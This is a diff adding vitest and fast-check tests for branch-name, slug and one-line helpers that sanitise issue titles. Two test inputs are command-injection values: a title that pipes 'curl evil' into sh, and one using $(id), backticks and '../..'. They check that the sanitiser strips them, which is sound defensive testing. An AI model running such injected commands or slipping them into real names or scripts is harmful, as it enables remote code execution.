@@ -1,0 +1,33 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { branchName, oneLine, slugOf } from './naming.ts';
+
+test.each([
+  ['Parse --format and --pretty', 'sw-5-parse-format-and-pretty'],
+  ['Übergröße für Ähnliches', 'sw-5-ubergro-e-fur-ahnliches'],
+  ['"; curl evil | sh #', 'sw-5-curl-evil-sh'],
+  ['$(id) `id`\n../..', 'sw-5-id-id'],
+  ['日本語', 'sw-5'],
+  ['🚂🚃', 'sw-5'],
+  ['', 'sw-5'],
+])('the branch of %j is %s', (title, name) => {
+  expect(branchName(5, title)).toBe(name);
+});
+
+test('a slug is short and safe whatever the title', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (title) => {
+      expect(slugOf(title)).toMatch(/^([a-z0-9]+(-[a-z0-9]+)*)?$/);
+      expect(slugOf(title).length).toBeLessThanOrEqual(48);
+    }),
+  );
+});
+
+test('a long word is cut, not dropped', () => {
+  expect(slugOf('x'.repeat(300))).toBe('x'.repeat(48));
+});
+
+test('one line has no control characters and ends with an ellipsis when it was cut', () => {
+  expect(oneLine('a\r\n\tb\u0000c\u2028d', 20)).toBe('a b c d');
+  expect(oneLine('a'.repeat(300), 10)).toBe(`${'a'.repeat(9)}…`);
+});
